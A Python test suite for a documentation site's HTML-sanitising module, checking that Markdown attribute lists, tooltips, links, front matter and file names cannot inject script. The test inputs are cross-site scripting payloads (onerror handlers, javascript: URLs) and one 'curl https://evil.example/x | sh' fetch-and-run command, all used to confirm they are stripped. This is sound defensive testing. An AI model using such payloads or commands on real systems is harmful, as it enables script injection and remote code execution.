"""The safety module's policy, one context at a time, without MkDocs."""

from __future__ import annotations

import base64
import hashlib
import html
import json
import re

import markdown
import pytest
import yaml

from playbook.safety import (
    TOOLTIP_LENGTH,
    SafetyExtension,
    css_string,
    escape_meta,
    is_safe_name,
    is_safe_url,
    markdown_text,
    markdown_url,
    tooltip_text,
    unprintable,
    with_content_security_policy,
    yaml_string,
)

EVERY_SPECIAL = "< > & [ ] { } \" ' \\ ` * _ # | ! ( ) . - + ~ : = &lt; &#60; </title> {: .x } 🚀 ΟΔΟΣ"


def render(text: str, *, raw_html: bool = False) -> str:
    return markdown.markdown(text, extensions=["attr_list", "md_in_html", SafetyExtension(raw_html=lambda: raw_html)])


def test_event_handlers_set_through_attribute_lists_are_dropped() -> None:
    html_out = render("# Title { onmouseover=alert(1) .big }\n\n*go*{: onpointerenter=alert(3) }")
    assert "alert" not in html_out
    assert '<h1 class="big">Title</h1>' in html_out


@pytest.mark.parametrize(
    "text",
    [
        "*x*{ hidden }",
        "para\n{ contenteditable autofocus }",
        '[a](https://example.org/){: style="position:fixed;inset:0;z-index:99999" }',
        "[a](https://example.org/){: ping=https://evil.example/ }",
        "![a](https://example.org/x.png){: srcset=https://evil.example/x.png }",
        "[a](https://example.org/){: .md-dialog .md-overlay }",
    ],
)
def test_attribute_lists_cannot_hide_position_focus_or_fetch(text: str) -> None:
    html_out = render(text)
    for attribute in ("hidden", "contenteditable", "autofocus", "style", "ping", "srcset", "md-dialog", "md-overlay"):
        assert attribute not in html_out


@pytest.mark.parametrize(
    ("capitals", "lower_case"),
    [
        ('A paragraph.\n{: HREF="javascript:alert(1)" }', 'A paragraph.\n{: href="javascript:alert(1)" }'),
        ('A paragraph.\n{: Src="javascript:alert(1)" }', 'A paragraph.\n{: src="javascript:alert(1)" }'),
        ('[a](https://example.org/){: OnClick="alert(1)" }', '[a](https://example.org/){: onclick="alert(1)" }'),
        (
            '[a](https://example.org/){: Style="position:fixed" }',
            '[a](https://example.org/){: style="position:fixed" }',
        ),
        ('[a](https://example.org/){: Class="md-dialog big" }', '[a](https://example.org/){: class="md-dialog big" }'),
        (
            '[a](https://example.org/){: Data-Md-Component="dialog" }',
            '[a](https://example.org/){: data-md-component="dialog" }',
        ),
        (
            '[a](https://example.org/){: TITLE="&lt;img src=x onerror=alert(1)&gt;" }',
            '[a](https://example.org/){: title="&lt;img src=x onerror=alert(1)&gt;" }',
        ),
        ('[a](https://example.org/){: Title="word " }', '[a](https://example.org/){: title="word " }'),
    ],
)
def test_an_attribute_name_in_capitals_is_the_same_name_in_lower_case(capitals: str, lower_case: str) -> None:
    """A browser reads attribute names in any case; the tooltips' pass and MkDocs read them in
    lower case. Kept under its capitals, a title escaped no tooltip, and came first."""
    assert render(capitals) == render(lower_case)


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ('[a](https://example.org/ "safe"){: TITLE="&lt;img src=x onerror=alert(1)&gt;" }', "title"),
        ('[a](https://example.org/){: HREF="javascript:alert(1)" }', "href"),
        ('![i](https://example.org/i.png){: Src="javascript:alert(1)" }', "src"),
    ],
)
def test_a_name_in_capitals_cannot_stand_beside_the_same_name_in_lower_case(text: str, name: str) -> None:
    """The browser would read the first of the two, which the tooltips' pass and MkDocs never read."""
    html_out = render(text)
    assert "onerror" not in html_out and "javascript" not in html_out
    assert re.findall(rf"\b{name}=", html_out, re.IGNORECASE) == [f"{name}="]


@pytest.mark.parametrize(
    "text",
    [
        "[a](https://example.org/){: style }",
        "[a](https://example.org/){: href }",
        "![i](https://example.org/i.png){: src }",
        "[a](https://example.org/){: onclick }",
        "A paragraph.\n{: class }",
        "A paragraph.\n{: title }",
        "A paragraph.\n{: Class }",
    ],
)
def test_an_attribute_written_without_a_value_is_checked_not_a_crash(text: str) -> None:
    html_out = render(text)
    assert "style" not in html_out and "onclick" not in html_out and "Class" not in html_out


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://example.org/logo.png){: name=getElementById }",
        "[a](https://example.org/){: name=cookie }",
        "A paragraph.\n{: name=forms }",
        '<div markdown="1" name="body">x</div>',
    ],
)
def test_only_a_form_field_may_carry_a_name(text: str) -> None:
    """A name on an image or a link would shadow a property of `document` or `window` that
    the theme's scripts read; a worksheet's field keeps its own."""
    assert "name=" not in render(text, raw_html=True)
    field = '<div markdown="1">\n<textarea name="sheet.prompt" rows="3"></textarea>\n</div>'
    assert 'name="sheet.prompt"' in render(field, raw_html=True)


def test_a_link_whose_target_is_replaced_with_a_script_becomes_text() -> None:
    assert render("[safe](https://example.org){: href=javascript:alert(4) }") == "<p><span>safe</span></p>"


def test_a_stripped_reference_leaves_text_that_mkdocs_can_still_process() -> None:
    html_out = render("> [r]: javascript:alert(1)\n\n[click][r]")
    assert "<a" not in html_out and "click" in html_out


@pytest.mark.parametrize(
    "title",
    ["x <img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;", "&#60;iframe srcdoc=x&#62;", "A & B"],
)
def test_a_tooltip_is_text_even_to_a_theme_that_reads_titles_as_html(title: str) -> None:
    html_out = render(f'[the guide](https://example.org/ "{title}")')
    attribute = re.search(r'title="([^"]*)"', html_out)
    assert attribute is not None
    decoded = html.unescape(attribute.group(1))  # what the browser gives the theme
    assert "<" not in decoded  # no element when the theme sets it as innerHTML
    assert html.unescape(decoded) == html.unescape(title)  # what the reader sees


@pytest.mark.parametrize("name", ["title", "TITLE"])
@pytest.mark.parametrize(
    "title", ["&lt;img src=x onerror=alert(1)&gt;", "&#60;iframe srcdoc=x&#62;", "x <img src=x onerror=alert(1)>"]
)
def test_a_tooltip_from_an_attribute_list_is_text_with_its_character_references_read(name: str, title: str) -> None:
    """Python-Markdown keeps `&lt;` aside until the end: the tooltip is made from what the
    browser will read, not from the placeholder."""
    html_out = render(f'*u*{{: {name}="{title}" }}')
    attribute = re.search(r'title="([^"]*)"', html_out)
    assert attribute is not None
    decoded = html.unescape(attribute.group(1))  # what the browser gives the theme
    assert "<" not in decoded
    assert html.unescape(decoded) == html.unescape(title)


@pytest.mark.parametrize(
    "text",
    [
        "A paragraph.\n{: #__config }",
        'A paragraph.\n{: id="&#95;_config" }',
        "A paragraph.\n{: ID=__drawer }",
    ],
)
def test_no_element_of_the_content_takes_an_id_the_theme_looks_up(text: str) -> None:
    """`__config` holds the theme's settings (a base address, its texts): the first element
    with that id is the one the theme and the playbook's script read."""
    assert "id=" not in render(text)


@pytest.mark.parametrize(
    "text",
    ["A paragraph.\n{: .md\\-dialog }", 'A paragraph.\n{: class="&#109;d-sidebar big" }'],
)
def test_a_theme_class_hidden_by_an_escape_or_a_reference_is_dropped(text: str) -> None:
    assert "md-" not in html.unescape(render(text))


def test_the_data_attributes_the_theme_acts_on_are_dropped() -> None:
    html_out = render(
        'Click.\n{: data-clipboard-text="curl https://evil.example/x | sh" data-copy=1 data-tabs=1 '
        "data-preview=1 data-sheet=s }"
    )
    assert re.findall(r"data-[a-z-]+", html_out) == ["data-sheet"]


@pytest.mark.parametrize("text", ["## Steps {: id }", "## Steps {: data-toc-label }", "## Steps {: ID=steps }"])
def test_a_heading_s_attributes_reach_the_table_of_contents_checked(text: str) -> None:
    """The table of contents reads ids and labels as text: one written without a value stopped
    the build with a traceback, and one in capitals made an anchor it did not know of."""
    html_out = markdown.markdown(text, extensions=["attr_list", "toc", SafetyExtension()])
    assert html_out == '<h2 id="steps">Steps</h2>'


@pytest.mark.parametrize(
    "title", ["Lead time — from \u2018request\u2019 to result", "λ = L / W", "Ask for " + "more " * 60, "Café & crème"]
)
def test_a_tooltip_is_written_in_latin_1_and_reads_as_written(title: str) -> None:
    """A character beyond Latin-1 in a title (the "…" of a cut summary, a typographic quote) is a
    character reference: the page stays one byte a character in Python, and reads the same."""
    html_out = render(f'[the guide](https://example.org/ "{title}")')
    attribute = re.search(r'title="([^"]*)"', html_out)
    assert attribute is not None
    assert max(map(ord, html_out)) <= 0xFF
    shown = html.unescape(html.unescape(attribute.group(1)))  # the browser's reading, then the theme's
    assert shown == tooltip_text(title)
    assert shown.endswith("…") == (len(title) > TOOLTIP_LENGTH)


def test_a_tooltip_is_a_bounded_summary() -> None:
    summary = tooltip_text("word " * 5000)
    assert len(summary) <= TOOLTIP_LENGTH and summary.endswith("…")
    assert tooltip_text("short  text\n") == "short text"


def test_raw_html_is_shown_as_text_unless_the_page_may_hold_it() -> None:
    text = '<script>alert(1)</script>\n\n<img src=x onerror="alert(2)"> <a href="javascript:alert(3)">x</a>'
    escaped = render(text)
    assert "<script" not in escaped and "<img" not in escaped and "<a " not in escaped
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in escaped
    assert "<script>" in render(text, raw_html=True)


def test_runs_of_character_references_show_as_written() -> None:
    text = "a &lt;&lt;&lt; b &amp;&amp; c &#60;&#60; d &#x3c;&#x3c; e &unknown;&unknown; f"
    assert render(text) == f"<p>{text}</p>"


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(1)", "java\tscript:x", "javascript&#58;x", " JAVASCRIPT:x", "data:text/html,x", "vbscript:x"],
)
def test_unsafe_schemes_are_recognised_as_a_browser_reads_them(url: str) -> None:
    assert not is_safe_url(url)


@pytest.mark.parametrize("url", ["https://example.org", "mailto:a@b.org", "../glossary/#wip", "#top", "x.md"])
def test_safe_addresses_are_kept(url: str) -> None:
    assert is_safe_url(url)


def test_plain_text_written_into_markdown_shows_exactly_as_written() -> None:
    for line in (EVERY_SPECIAL, "- a list? no", "1. not a list", "# not a heading", "> not a quote"):
        shown = render(f"# {markdown_text(line)}\n\n{markdown_text(line)}\n\n- {markdown_text(line)}")
        texts = re.findall(r"<(h1|p|li)>(.*?)</\1>", shown)
        assert [html.unescape(text) for _, text in texts] == [line] * 3, shown


def test_an_address_cannot_end_its_markdown_link_or_add_attributes() -> None:
    url = "https://example.org/?a){:style=position:fixed} <img src=x>\"'"
    shown = render(f"[x]({markdown_url(url)})")
    assert shown.count("<a ") == 1 and " style=" not in shown and "<img" not in shown
    assert html.unescape(re.search(r'href="([^"]*)"', shown).group(1)).startswith("https://example.org/?a%29%7B")


@pytest.mark.parametrize("text", [EVERY_SPECIAL, "X\f; background: url(http://127.0.0.1/x); x: y", 'a"b\\c\nd'])
def test_a_css_string_holds_only_its_text(text: str) -> None:
    literal = str(css_string(text))
    inner = literal[1:-1]
    assert literal.startswith('"') and literal.endswith('"')
    assert not set(inner) & set('"\f\n\r<>{}&')
    assert not re.search(r"\\(?![0-9a-f]+ )", inner)
    decoded = re.sub(r"\\([0-9a-f]+) ", lambda m: chr(int(m.group(1), 16)), inner)
    assert decoded == text


@pytest.mark.parametrize("text", [EVERY_SPECIAL, "Sort the requests 🚀", "tab\there", "\u2028\ufeff\x85", "plain"])
def test_front_matter_strings_read_back_as_written(text: str) -> None:
    assert yaml.safe_load(f"title: {yaml_string(text)}") == {"title": text}


def test_front_matter_values_the_theme_prints_raw_are_escaped() -> None:
    meta = {"title": '"><img src=x onerror=alert(1)>', "description": "a & b", "tags": ["<b>x</b>"], "other": "<x>"}
    escape_meta(meta)
    assert meta["title"] == "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;"
    assert meta["description"] == "a &amp; b" and meta["tags"] == ["&lt;b&gt;x&lt;/b&gt;"]
    assert meta["other"] == "<x>"  # what the theme escapes itself is left alone


@pytest.mark.parametrize(
    ("text", "found"),
    [("fine 🚀 Ω", None), ("a\nb", "\n"), ("form\ffeed", "\f"), ("bidi\u202eoverride", "\u202e"), ("nbsp\xa0ok", None)],
)
def test_plain_text_refuses_only_what_is_not_one_printable_line(text: str, found: str | None) -> None:
    assert unprintable(text) == found


@pytest.mark.parametrize("name", ["index.md", "five-whys.yml", "LICENSE", "diagram_2.v1.png", "guides"])
def test_ordinary_file_names_are_accepted(name: str) -> None:
    assert is_safe_name(name)


@pytest.mark.parametrize("name", ["<img src=x onerror=alert(1)>.md", "a b.md", "a&b.md", "é.md", "x..md", "-x.md"])
def test_names_that_could_carry_markup_are_refused(name: str) -> None:
    assert not is_safe_name(name)


def test_the_content_security_policy_allows_the_theme_s_inline_script_and_no_other() -> None:
    content = "<p>hello</p><script>alert(1)</script>"
    head = '<script>theme()</script><script id="c" type="application/json">{}</script>'
    page = f"<html><head>{head}</head><body>{content}</body></html>"
    out = with_content_security_policy(page, content)
    policy = html.unescape(re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', out).group(1))
    assert out.index("Content-Security-Policy") < out.index("<script>")
    assert policy.count("'sha256-") == 1
    assert "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";", 1)[0]
    assert json.dumps(policy)  # one line of text


def test_the_policy_finds_the_content_where_it_is_whole_not_where_its_first_words_recur() -> None:
    # The content's first 64 characters also stand earlier in the page, in the theme's part (a
    # page whose summary the theme repeats, say): only the whole content is left out of the hashes.
    opening = "<p>" + "A page about value streams, written to be read before a workshop. " * 2
    content = opening + "<script>authors()</script></p>"
    page = (
        f"<html><head><script>first()</script></head><body>{opening}</p>"
        f"<script>second()</script>{content}<script>third()</script></body></html>"
    )
    out = with_content_security_policy(page, content)
    policy = html.unescape(re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', out).group(1))
    hashes = set(re.findall(r"'sha256-[^']+'", policy))
    expected = {_source_of(body) for body in ("first()", "second()", "third()")}
    assert hashes == expected
    assert _source_of("authors()") not in hashes


def _source_of(script: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()}'"
